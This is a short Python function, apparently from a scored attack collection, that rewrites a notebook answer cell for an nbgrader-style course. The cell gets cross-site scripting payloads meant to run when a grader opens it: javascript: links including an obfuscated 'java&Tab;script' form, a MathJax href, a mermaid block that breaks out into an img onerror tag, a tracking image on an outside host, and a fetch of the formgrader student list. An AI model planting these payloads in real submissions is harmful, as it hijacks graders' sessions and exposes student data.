# how: links, pictures and formulas that run a script where a grader or the learner opens them
# earns: 11
def hand_in(path, notebook, course):
    import json

    edited = json.loads(notebook)
    for cell in edited["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "why":
            cell["source"] = (
                "[x](javascript:fetch('/formgrader/api/students')) <javascript:alert(1)> [y][1]\n\n"
                "[1]: java&Tab;script:alert(1)\n\n![z](https://elsewhere.invalid/seen.png)\n\n"
                "$\\href{javascript:alert(1)}{x}$\n\n```mermaid\n</pre><img src=x onerror=alert(1)>\n```\n"
            )
    path.write_text(json.dumps(edited))
